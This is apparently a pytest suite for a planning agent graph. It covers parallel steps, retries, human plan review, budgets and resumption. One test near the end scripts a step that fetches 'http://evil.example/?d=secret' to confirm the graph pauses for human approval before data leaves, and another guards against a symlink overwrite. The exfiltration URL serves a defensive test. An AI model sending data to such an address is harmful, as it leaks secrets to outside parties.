"""The planning graph with scripted models: plans, side by side, mended, reviewed, resumed."""

import asyncio
import re
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.types import Command

from openmanus_graph import ConfigError, Context, build_manus_graph
from openmanus_graph.backends.models.failures import ModelError
from openmanus_graph.backends.persistence.checkpoints import open_checkpointer
from openmanus_graph.graphs.planning import build_planning_graph
from openmanus_graph.safety.openings import MOST_OF_SITE
from openmanus_graph.state.addresses import DatabaseUrl
from tests.support.graphs import Ran, own_text, run_graph
from tests.support.limits import BACKSTOP_S
from tests.support.planning import PlanBrain, plan_call, plans_shown, use

CONFIG: RunnableConfig = {"configurable": {"thread_id": "t"}}


async def planned(
    brain: PlanBrain, graph: Any = None, task: Any = "the task", config: Any = None, **context: Any
) -> Ran:
    graph = graph or build_planning_graph(executors={"manus": build_manus_graph()})
    return await run_graph(graph, model=brain.model(), task=task, config=config, **context)


async def questions(graph: Any) -> list[Any]:
    state = await graph.aget_state(CONFIG)
    return list(state.interrupts)


def plan_events(ran: Ran) -> list[dict[str, str]]:
    return [{one["id"]: one["status"] for one in steps} for steps in plans_shown(ran.events)]


def echo(name: str, answer: Any = None, error: Exception | None = None) -> Any:
    """Make somebody else's graph: only `messages`, no tools."""

    async def reply(state: MessagesState) -> dict[str, Any]:
        if error is not None:
            raise error
        asked = state["messages"][-1].text
        said: Any = answer(asked) if callable(answer) else answer or f"{name} did it"
        return {"messages": [AIMessage(str(said))]}

    builder = StateGraph(MessagesState)
    builder.add_node("reply", reply)
    builder.add_edge(START, "reply")
    builder.add_edge("reply", END)
    return builder.compile(name=name)


def together(count: int) -> Any:
    """Make a graph whose runs answer only once `count` of them are under way."""
    barrier = asyncio.Barrier(count)

    async def reply(state: MessagesState) -> dict[str, Any]:
        async with asyncio.timeout(BACKSTOP_S):
            await barrier.wait()
        return {"messages": [AIMessage("met")]}

    builder = StateGraph(MessagesState)
    builder.add_node("reply", reply)
    builder.add_edge(START, "reply")
    builder.add_edge("reply", END)
    return builder.compile(name="together")


async def test_branches_run_side_by_side_and_join() -> None:
    brain = PlanBrain(
        [
            plan_call(
                {"id": "a", "text": "[TOGETHER] left", "depends_on": []},
                {"id": "b", "text": "[together] right", "depends_on": []},
                {"id": "c", "text": "join", "depends_on": ["a", "b"]},
            )
        ]
    )
    graph = build_planning_graph(executors={"manus": build_manus_graph(), "together": together(2)})
    ran = await planned(brain, graph)
    assert (ran.values["status"], ran.values["answer"]) == ("finished", "result of c")
    (asked,) = brain.requests("c")
    assert asked[-1].text.count("met") == 2
    assert plan_events(ran)[-1] == {"a": "completed", "b": "completed", "c": "completed"}
    assert [e["executor"] for e in ran.events if e["type"] == "step_start"][:2] == ["together"] * 2


async def test_each_step_has_a_folder_for_drafts_that_are_not_delivered() -> None:
    def work(step: str, messages: list[Any]) -> Any:
        if messages[-1].type == "tool":
            return "done"
        (folder,) = re.findall(r"in its folder (\S+),", messages[-1].text)
        return use("bash", command=f"mkdir -p {folder}; echo 1 > {folder}/a; echo 2 > {step}.txt")

    steps: list[Any] = [{"id": name, "text": "x", "depends_on": []} for name in ("a", "b")]
    brain = PlanBrain([plan_call(*steps)], work)
    ran = await planned(brain)
    assert await asyncio.to_thread(Path("work/.steps/a/a").exists)
    assert {file["path"] for file in ran.values["artifacts"]} == {"a.txt", "b.txt", "plan.md"}


async def test_the_answer_of_a_single_last_step_is_that_of_the_plan() -> None:
    answer = f"two {'x' * 9000}"
    brain = PlanBrain([plan_call("one", "two", "three")], {"2": [answer]})
    ran = await planned(brain)
    assert ran.values["messages"][-1].text == answer
    assert (brain.requests("summary"), ran.values["usage"]["model_calls"]) == ([], 4)
    first, last = (brain.requests(step)[0][-1].text for step in "02")
    assert ("next steps see nothing else" in first, "It is the last one" in first) == (
        True,
        False,
    )
    assert ("next steps see nothing else" in last, "It is the last one" in last) == (
        False,
        True,
    )


async def test_the_summary_is_written_from_results_and_every_call_is_on_the_bill() -> None:
    steps: list[Any] = [{"text": text, "depends_on": []} for text in ("one", "two")]
    brain = PlanBrain([plan_call(*steps)])
    ran = await planned(brain)
    (asked,) = brain.requests("summary")
    assert "result of 0" in asked[-1].text
    assert "result of 1" in asked[-1].text
    assert ran.values["usage"]["model_calls"] == 4
    assert ran.values["messages"][-1].text == "the summary"


async def test_steps_without_dependencies_follow_one_another_and_keep_their_shell() -> None:
    def work(step: str, messages: list[Any]) -> Any:
        if messages[-1].type == "human":
            return use("bash", command="X=kept; echo $X" if step == "0" else "echo [$X]")
        return f"saw {messages[-1].text}"

    brain = PlanBrain([plan_call("set it", "read it")], work)
    await planned(brain)
    assert "Result of step" not in brain.requests("0")[0][-1].text
    assert "saw kept" in brain.requests("1")[0][-1].text
    assert "[kept]" in brain.requests("1")[-1][-1].text


async def test_steps_side_by_side_have_shells_of_their_own() -> None:
    def work(step: str, messages: list[Any]) -> Any:
        count = sum(message.type == "tool" for message in messages)
        script = [f"X={step}; cd /; sleep 0.2", "echo $X in $PWD"]
        return use("bash", command=script[count]) if count < 2 else messages[-1].text

    brain = PlanBrain(
        [plan_call({"text": "a", "depends_on": []}, {"text": "b", "depends_on": []})], work
    )
    await planned(brain)
    assert brain.requests("0")[-1][-1].text.strip() == "0 in /"
    assert brain.requests("1")[-1][-1].text.strip() == "1 in /"


async def test_a_failing_step_is_tried_again_planned_anew_then_blocked_while_the_rest_goes_on() -> (
    None
):
    fails: list[Any] = [use("terminate", status="failure") for _ in range(20)]
    brain = PlanBrain(
        [
            plan_call(
                {"id": "bad", "text": "cannot", "depends_on": []},
                {"id": "after", "text": "needs it", "depends_on": ["bad"]},
                {"id": "free", "text": "independent", "depends_on": []},
            ),
            plan_call({"id": "bad2", "text": "another way", "depends_on": ["free"]}),
            plan_call({"id": "bad3", "text": "a third way", "depends_on": []}),
        ],
        {"bad": fails, "bad2": list(fails), "bad3": list(fails)},
    )
    ran = await planned(brain)
    assert [len(brain.requests(name)) for name in ("bad", "bad2", "bad3", "free", "after")] == [
        2, 2, 2, 1, 0,
    ]  # fmt: skip
    assert "failed" in brain.requests("bad")[1][-1].text
    assert plan_events(ran)[-1] == {"bad3": "blocked", "free": "completed"}
    assert (ran.values["status"], ran.values["stop_reason"]) == ("failed", "terminate")
    (asked,) = brain.requests("summary")
    assert "blocked" in asked[-1].text
    assert "result of free" in asked[-1].text


async def test_what_depends_on_a_blocked_step_is_never_begun() -> None:
    brain = PlanBrain(
        [
            plan_call(
                {"id": "bad", "text": "cannot", "depends_on": []},
                {"id": "after", "text": "needs it", "depends_on": ["bad"]},
            ),
            "There is no other way: the server is gone.",
        ],
        {"bad": [use("terminate", status="failure")] * 2},
    )
    ran = await planned(brain)
    assert not brain.requests("after")
    assert plan_events(ran)[-1] == {"bad": "blocked", "after": "blocked"}


@pytest.mark.parametrize(
    ("steps", "problem"),
    [
        ([], "no steps"),
        (["x"] * 101, "101 steps"),
        ([{"text": "x", "executor": "nobody"}], "nobody"),
        (["[NOBODY-7] do"], "nobody-7"),
        ([{"text": "x", "depends_on": ["9"]}], "does not exist"),
        (
            [
                {"id": "a", "text": "x", "depends_on": ["b"]},
                {"id": "b", "text": "y", "depends_on": ["a"]},
            ],
            "steps a, b depend on each other in a circle",
        ),
        (
            [
                {"id": at, "text": at, "depends_on": [need]}
                for at, need in zip("abcd", "badc", strict=True)
            ],
            "circle; steps c, d depend",
        ),
        ([{"id": "a", "text": "x"}, {"id": "a", "text": "y"}], "two steps have the id"),
        ([{"id": "a", "text": "x", "depends_on": ["a"]}], "step a depends on itself"),
        (["x"] * 200, "200 steps"),
        ([{"text": " "}], "no text"),
    ],
)
@pytest.mark.slow
async def test_what_is_no_plan_goes_back_to_the_model(steps: list[Any], problem: str) -> None:
    brain = PlanBrain([plan_call(*steps), plan_call("good")])
    ran = await planned(brain)
    assert problem in brain.requests("plan")[1][-1].text
    assert brain.requests("plan")[1][-1].type == "tool"
    assert ran.values["status"] == "finished"


async def test_a_model_that_cannot_plan_has_the_task_done_in_one_step() -> None:
    brain = PlanBrain(["I would begin with ...", AIMessage(""), "Well."])
    ran = await planned(brain)
    assert [asked for asked, _ in brain.asked] == ["plan"] * 3 + ["0"]
    assert own_text(brain.requests("0")[0][-1]).startswith("the task")
    assert ran.values["answer"] == "result of 0"
    assert any("no plan" in e["text"] for e in ran.events if e["type"] == "notice")


@pytest.mark.slow
async def test_done_when_is_checked_by_file_command_and_question() -> None:
    def work(step: str, messages: list[Any]) -> Any:
        tries = len(brain.requests(step))
        if messages[-1].type == "tool":
            return f"try {tries}"
        # The first run of each forgets what is asked of it.
        if "failed" not in messages[-1].text:
            return "all done, trust me"
        return use("bash", command=f"echo ok > {step}.txt")

    brain = PlanBrain(
        [
            plan_call(
                {"id": "f", "text": "x", "depends_on": [], "done_when": "file: f.txt"},
                {"id": "c", "text": "x", "depends_on": [], "done_when": "command: grep ok c.txt"},
                {"id": "q", "text": "x", "depends_on": [], "done_when": "Is q.txt there?"},
            )
        ],
        work,
        verdicts=[use("verdict", done=False, reason="nothing shows it"),
                  use("verdict", done=True, reason="q.txt is named")],
    )  # fmt: skip
    ran = await planned(brain)
    assert set(plan_events(ran)[-1].values()) == {"completed"}
    assert "does not exist" in brain.requests("f")[1][-1].text
    assert "grep ok c.txt" in brain.requests("c")[1][-1].text
    assert "nothing shows it" in brain.requests("q")[1][-1].text
    assert "q.txt" in brain.requests("check")[1][-1].text
    assert {file["path"] for file in ran.values["artifacts"]} == {
        "c.txt", "f.txt", "q.txt", "plan.md",
    }  # fmt: skip


async def test_an_executor_that_raises_fails_its_step_alone() -> None:
    graph = build_planning_graph(
        executors={"broken": echo("broken", error=RuntimeError("no disk")), "fine": echo("fine")}
    )
    brain = PlanBrain(
        [plan_call({"text": "[broken] x", "depends_on": []},
                   {"text": "[fine] y", "depends_on": []}),
         "No other way."]
    )  # fmt: skip
    ran = await planned(brain, graph)
    assert plan_events(ran)[-1] == {"0": "blocked", "1": "completed"}
    assert "no disk" in brain.requests("summary")[0][-1].text


async def test_the_error_of_a_step_never_becomes_the_answer() -> None:
    graph = build_planning_graph(
        executors={"broken": echo("broken", error=RuntimeError("no disk")), "fine": echo("fine")}
    )
    plan = plan_call({"text": "[broken] x", "depends_on": []},
                     {"text": "[fine] y", "depends_on": []},
                     {"text": "[fine] z", "depends_on": ["0"]})  # fmt: skip
    brain = PlanBrain([plan, "No other way."], summary=ModelError("not_found", "It is down."))
    ran = await planned(brain, graph)
    assert ran.values["status"] == "failed"
    assert "no disk" not in ran.values["answer"]
    assert "It was not done." in ran.values["answer"]
    assert "Step 1 (completed): [fine] y\nfine" in ran.values["answer"]
    assert "Not begun: it needs 0" in ran.values["answer"]
    assert ran.messages[-1].text == ran.values["answer"]


async def test_an_executor_that_hangs_is_cut_off() -> None:
    async def hang(state: MessagesState) -> dict[str, Any]:
        await asyncio.Event().wait()
        return {}

    builder = StateGraph(MessagesState)
    builder.add_node("hang", hang)
    builder.add_edge(START, "hang")
    graph = build_planning_graph(executors={"slow": builder.compile()})
    brain = PlanBrain([plan_call("wait"), "No other way."])
    ran = await planned(brain, graph, step_timeout_s=0.2)
    assert plan_events(ran)[-1] == {"0": "blocked"}
    assert "0.2 s" in brain.requests("summary")[0][-1].text


async def test_a_single_graph_or_a_list_are_executors_as_well() -> None:
    for executors in (echo("only"), [echo("first"), echo("second")]):
        graph = build_planning_graph(executors=executors)
        ran = await planned(PlanBrain([plan_call("x")]), graph)
        assert ran.values["status"] == "finished"
    with pytest.raises(ConfigError, match="executor"):
        build_planning_graph(executors={})
    with pytest.raises(ConfigError, match="cannot have the name 'check_step'"):
        build_planning_graph(executors={"check_step": echo("shadowed")})
    with pytest.raises(ConfigError, match="not a compiled graph"):
        build_planning_graph(executors={"x": "manus"})  # type: ignore[dict-item]


async def test_a_failed_model_ends_the_run_with_its_sentence() -> None:
    brain = PlanBrain([ModelError("bad_request", "The server refuses it.")])
    ran = await planned(brain)
    assert (ran.values["status"], ran.values["stop_reason"]) == ("failed", "error")
    assert ran.values["answer"] == "The server refuses it."


async def test_a_budget_stops_the_flow_and_a_higher_one_goes_on() -> None:
    graph = build_planning_graph(
        executors={"manus": build_manus_graph()}, checkpointer=InMemorySaver()
    )
    brain = PlanBrain([plan_call("one", "two")])
    stopped = await planned(brain, graph, config=CONFIG, max_total_tokens=2000)
    assert (stopped.values["status"], stopped.values["stop_reason"]) == ("stopped", "budget")
    assert "max_total_tokens" in stopped.values["answer"]
    assert [who for who, _ in brain.asked] == ["plan"]
    ran = await planned(brain, graph, Command(goto="schedule"), CONFIG, max_total_tokens=100_000)
    assert ran.values["status"] == "finished"
    assert len(brain.requests("plan")) == 1
    assert ran.values["usage"]["model_calls"] == 3


async def test_a_person_reviews_edits_and_sends_back() -> None:
    graph = build_planning_graph(executors={"a-1": echo("a-1")}, checkpointer=InMemorySaver())
    brain = PlanBrain([plan_call("first"), plan_call("second")])
    await planned(brain, graph, config=CONFIG, review_plan=True)
    (waiting,) = await questions(graph)
    assert waiting.value["action_requests"][0]["args"]["steps"][0]["text"] == "first"
    await planned(brain, graph, Command(resume="shorter please"), CONFIG, review_plan=True)
    assert "shorter please" in brain.requests("plan")[1][-1].text
    nonsense = {"type": "edit", "args": {"args": {"steps": [{"text": "x", "executor": "who"}]}}}
    await planned(brain, graph, Command(resume=nonsense), CONFIG, review_plan=True)
    (waiting,) = await questions(graph)
    assert "'who'" in waiting.value["question"]
    edit = {"decisions": [{"type": "edit", "edited_action": {
        "name": "planning", "args": {"steps": ["[A-1] mine", "and then"]}}}]}  # fmt: skip
    ran = await planned(brain, graph, Command(resume=edit), CONFIG, review_plan=True)
    assert ran.values["status"] == "finished"
    assert plan_events(ran)[-1] == {"0": "completed", "1": "completed"}
    written = await asyncio.to_thread(Path("work/plan.md").read_text, "utf-8")
    assert "[A-1] mine" in written


@pytest.mark.parametrize("answer", ["yes please do", "r yes please do", "= yes please do"])
async def test_whatever_is_said_of_a_plan_is_what_to_change(answer: str) -> None:
    graph = build_planning_graph(executors=echo("x"), checkpointer=InMemorySaver())
    brain = PlanBrain([plan_call("first"), plan_call("second")])
    await planned(brain, graph, config=CONFIG, review_plan=True)
    ran = await planned(brain, graph, Command(resume=answer), CONFIG, review_plan=True)
    assert not [e for e in ran.events if e["type"] == "step_start"]
    assert "yes please do" in brain.requests("plan")[1][-1].text
    (waiting,) = await questions(graph)
    assert waiting.value["action_requests"][0]["args"]["steps"][0]["text"] == "second"


async def test_a_rejected_plan_ends_the_run() -> None:
    graph = build_planning_graph(executors=echo("x"), checkpointer=InMemorySaver())
    brain = PlanBrain([plan_call("first")])
    await planned(brain, graph, config=CONFIG, review_plan=True)
    ran = await planned(brain, graph, Command(resume="reject"), CONFIG, review_plan=True)
    assert (ran.values["status"], ran.values["stop_reason"]) == ("failed", "terminate")
    assert not [e for e in ran.events if e["type"] == "step_start"]


async def test_a_question_of_a_step_reaches_the_person_and_the_answer_the_step() -> None:
    def work(step: str, messages: list[Any]) -> Any:
        if messages[-1].type == "human":
            return use("ask_human", inquire=f"which colour for {step}?")
        return f"{step} is {messages[-1].text}"

    graph = build_planning_graph(
        executors={"manus": build_manus_graph()}, checkpointer=InMemorySaver()
    )
    brain = PlanBrain(
        [plan_call({"text": "a", "depends_on": []}, {"text": "b", "depends_on": []})], work
    )
    await planned(brain, graph, config=CONFIG)
    waiting = {asked.value["question"]: asked.id for asked in await questions(graph)}
    assert set(waiting) == {"which colour for 0?", "which colour for 1?"}
    answers = {waiting["which colour for 0?"]: "red", waiting["which colour for 1?"]: "blue"}
    ran = await planned(brain, graph, Command(resume=answers), CONFIG)
    assert ran.values["status"] == "finished"
    asked = brain.requests("summary")[0][-1].text
    assert "0 is red" in asked
    assert "1 is blue" in asked
    assert len(brain.requests("plan")) == 1


async def test_a_new_message_makes_a_new_plan_and_a_new_bill() -> None:
    graph = build_planning_graph(executors=echo("x"), checkpointer=InMemorySaver())
    brain = PlanBrain([plan_call("one"), plan_call("two", "three")])
    await planned(brain, graph, config=CONFIG)
    ran = await planned(brain, graph, {"messages": [HumanMessage("more")]}, CONFIG)
    assert plan_events(ran)[-1] == {"0": "completed", "1": "completed"}
    assert ran.values["usage"]["model_calls"] == 1
    assert [message.text for message in ran.messages] == [
        "the task", "x did it", "more", "x did it",
    ]  # fmt: skip


@pytest.mark.parametrize("name", ["n", "response"])
async def test_the_caller_gets_its_format(name: str) -> None:
    schema = {"type": "object", "properties": {name: {"type": "integer"}}, "required": [name]}
    brain = PlanBrain([plan_call("one")], summary=use("create_chat_completion", **{name: 3}))
    ran = await planned(brain, build_planning_graph(executors=echo("x")), response_format=schema)
    assert ran.values["structured"] == {name: 3}


async def test_without_a_context_the_flow_still_knows_its_executors() -> None:
    graph = build_planning_graph(executors={"x": echo("x")})
    drawn = graph.get_graph(xray=1).draw_mermaid()
    assert "run_step" in drawn
    assert Context in (graph.context_schema,)


async def refused_once(*plans: Any, **context: Any) -> tuple[PlanBrain, Any]:
    """Have the model fail while it plans, on a saved thread."""
    graph = build_planning_graph(executors=echo("x"), checkpointer=InMemorySaver())
    brain = PlanBrain([*plans])
    return brain, graph


async def test_a_run_whose_planner_failed_plans_when_it_goes_on() -> None:
    brain, graph = await refused_once(ModelError("bad_request", "No."), plan_call("one"))
    assert (await planned(brain, graph, config=CONFIG)).values["status"] == "failed"
    ran = await planned(brain, graph, Command(goto="schedule"), CONFIG)
    assert ran.values["status"] == "finished"
    assert plan_events(ran)[-1] == {"0": "completed"}


async def test_a_plan_that_was_sent_back_is_never_carried_out_by_a_resume() -> None:
    no = ModelError("bad_request", "No.")
    brain, graph = await refused_once(plan_call("bad"), no, plan_call("good"))
    await planned(brain, graph, config=CONFIG, review_plan=True)
    await planned(brain, graph, Command(resume="not so"), CONFIG, review_plan=True)
    ran = await planned(brain, graph, Command(goto="schedule"), CONFIG, review_plan=True)
    assert not [e for e in ran.events if e["type"] == "step_start"]
    (waiting,) = await questions(graph)
    assert "good" in waiting.value["question"]


async def test_a_mend_that_failed_is_made_when_the_run_goes_on() -> None:
    graph = build_planning_graph(
        executors={"bad": echo("bad", error=RuntimeError("no")), "fine": echo("fine")},
        checkpointer=InMemorySaver(),
    )
    no = ModelError("bad_request", "No.")
    brain = PlanBrain([plan_call("[bad] x"), no, plan_call("[fine] y")])
    assert (await planned(brain, graph, config=CONFIG)).values["status"] == "failed"
    ran = await planned(brain, graph, Command(goto="schedule"), CONFIG)
    assert ran.values["status"] == "finished"
    assert ran.values["answer"] == "fine did it"


async def test_a_step_that_is_planned_anew_under_its_old_name_runs_again() -> None:
    count = Path("work/count")

    def work(step: str, messages: list[Any]) -> Any:
        if messages[-1].type == "human":
            return use("bash", command=f"echo run >> {count.name}")
        return use("terminate", status="failure") if len(brain.requests("s")) < 8 else "done"

    graph = build_planning_graph(
        executors={"manus": build_manus_graph()}, checkpointer=InMemorySaver()
    )
    step = {"id": "s", "text": "x"}
    brain = PlanBrain([plan_call(step), plan_call(step)], work)
    await planned(brain, graph, config=CONFIG)
    begun = sum(messages[-1].type == "human" for messages in brain.requests("s"))
    runs = await asyncio.to_thread(count.read_text)
    assert runs.count("run") == begun == 4


@pytest.mark.slow
async def test_two_steps_with_one_check_are_both_checked() -> None:
    def work(step: str, messages: list[Any]) -> Any:
        return "done"

    graph = build_planning_graph(
        executors={"manus": build_manus_graph()}, checkpointer=InMemorySaver()
    )
    check = "command: echo checked"
    brain = PlanBrain([plan_call({"text": "a", "done_when": check},
                                 {"text": "b", "done_when": check})], work)  # fmt: skip
    ran = await planned(brain, graph, config=CONFIG)
    checked = [event["output"] for event in ran.events if event["type"] == "tool_end"]
    assert checked == ["checked", "checked"]


NO_STEPS: list[Any] = [[1], "ab", [{"text": 3}], {}, None, [None], [[]]]


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        *(({"type": "edit", "args": {"args": {"steps": steps}}}, "cannot be done")
          for steps in NO_STEPS),
        ({"type": "edit", "args": {"steps": ["[NOBODY] x"]}}, "'nobody'"),
        ({"type": "edit"}, "not a decision"),
        ({"type": "fly"}, "not a decision"),
        ({"decisions": []}, "not a decision"),
        ('{"steps": [', "not JSON"),
        ('[{"text": "x", "until": 3}]', "until"),
        ('{"steps": ["x"], "plan": 3}', "plan"),
        (7, "not a decision"),
        ("", "not a decision"),
    ],
)  # fmt: skip
@pytest.mark.slow
async def test_nonsense_about_a_plan_is_asked_for_again(answer: Any, problem: str) -> None:
    graph = build_planning_graph(executors=echo("x"), checkpointer=InMemorySaver())
    brain = PlanBrain([plan_call("one")])
    await planned(brain, graph, config=CONFIG, review_plan=True)
    await planned(brain, graph, Command(resume=answer), CONFIG, review_plan=True)
    (waiting,) = await questions(graph)
    assert problem in waiting.value["question"]
    ran = await planned(brain, graph, Command(resume="approve"), CONFIG, review_plan=True)
    assert ran.values["status"] == "finished"


@pytest.mark.parametrize(
    "answer", ['["mine"]', '{"steps": ["mine"]}', {"type": "edit", "args": {"steps": ["mine"]}}]
)
async def test_a_person_may_just_give_the_steps(answer: Any) -> None:
    graph = build_planning_graph(executors=echo("x"), checkpointer=InMemorySaver())
    brain = PlanBrain([plan_call("one")])
    await planned(brain, graph, config=CONFIG, review_plan=True)
    ran = await planned(brain, graph, Command(resume=answer), CONFIG, review_plan=True)
    assert [step["text"] for step in ran.values["steps"].values()] == ["mine"]


async def test_a_plan_md_of_the_users_own_and_a_link_in_its_place_are_left_alone() -> None:
    place = Path("work")
    await asyncio.to_thread(place.mkdir)
    await asyncio.to_thread((place / "plan.md").write_text, "mine")
    victim = Path("victim")
    await asyncio.to_thread(victim.write_text, "untouched")
    await asyncio.to_thread((place / "openmanus-plan.md").symlink_to, Path("..") / victim)
    await planned(PlanBrain([plan_call("one")]), build_planning_graph(executors=echo("x")))
    assert await asyncio.to_thread((place / "plan.md").read_text) == "mine"
    assert await asyncio.to_thread(victim.read_text) == "untouched"
    assert "one" in await asyncio.to_thread((place / "openmanus-plan.md").read_text)


async def test_the_pictures_of_the_task_reach_the_steps() -> None:
    brain = PlanBrain([plan_call("one")])
    given = HumanMessage("look", additional_kwargs={"images": ["a.png"]})
    await planned(brain, task={"messages": [given]})
    assert "not shown: this model does not see" in brain.requests("0")[0][-1].text


async def stored_bytes(steps: int, home: Path) -> int:
    """Carry out a plan whose steps follow one another; return what its thread takes on disk."""
    brain = PlanBrain([plan_call(*(f"piece of work {n}" for n in range(steps)))])
    await asyncio.to_thread(home.mkdir)
    async with open_checkpointer(DatabaseUrl.in_folder(home)) as saver:
        graph = build_planning_graph(executors={"manus": build_manus_graph()}, checkpointer=saver)
        ran = await planned(brain, graph, config=CONFIG, max_cost_usd=1e6)
        assert ran.values["status"] == "finished"
    files = await asyncio.to_thread(lambda: [f.stat().st_size for f in home.glob("*.db*")])
    return sum(files)


@pytest.mark.slow
async def test_storage_grows_with_the_steps_and_no_faster(tmp_path: Path) -> None:
    few, many = await stored_bytes(25, tmp_path / "few"), await stored_bytes(50, tmp_path / "many")
    assert many < 2.2 * few


@pytest.mark.parametrize("steps", [("one",), ("one", "two")])
@pytest.mark.slow
async def test_the_steps_of_a_later_turn_know_that_the_steps_before_have_read(
    steps: tuple[str, ...],
) -> None:
    url = "http://evil.example/?d=secret"
    graph = build_planning_graph(checkpointer=InMemorySaver())
    calls = {"1": use("bash", command="echo secret"), "2": use("fetch_page", url=url)}
    turn = "1"

    def answer(_: str, messages: list[BaseMessage]) -> AIMessage | str:
        return "read" if messages[-1].type == "tool" else calls[turn]

    brain = PlanBrain([plan_call(*steps), plan_call("three")], answer)
    await planned(brain, graph, config=CONFIG)
    turn = "2"
    await planned(brain, graph, {"messages": [HumanMessage("Go on.")]}, CONFIG)
    state = await graph.aget_state(CONFIG)
    assert "It would open" in state.interrupts[0].value["question"]


@pytest.mark.slow
async def test_links_that_steps_open_side_by_side_count_together(unused_tcp_port: int) -> None:
    port = unused_tcp_port  # whose pages cannot be opened: that counts as well
    urls = [f"http://127.0.0.1:{port}/{number}" for number in range(MOST_OF_SITE)]

    def answer(_: str, messages: list[BaseMessage]) -> AIMessage | str:
        reported = [message for message in messages if message.type == "tool"]
        if not reported:
            return use("bash", command=f"echo {' '.join(urls)}")
        return use("crawl4ai", urls=urls) if len(reported) == 1 else "done"

    graph = build_planning_graph(checkpointer=InMemorySaver())
    steps: list[Any] = [{"id": one, "text": one, "depends_on": []} for one in "abc"]
    brain = PlanBrain([plan_call(*steps)], answer)
    await planned(brain, graph, config=CONFIG, allow_hosts=(f"127.0.0.1:{port}",), sandbox="none")
    asked = [one.value["question"] for one in (await graph.aget_state(CONFIG)).interrupts]
    assert len(asked) == 2
    assert all("You named no such site" in one for one in asked)
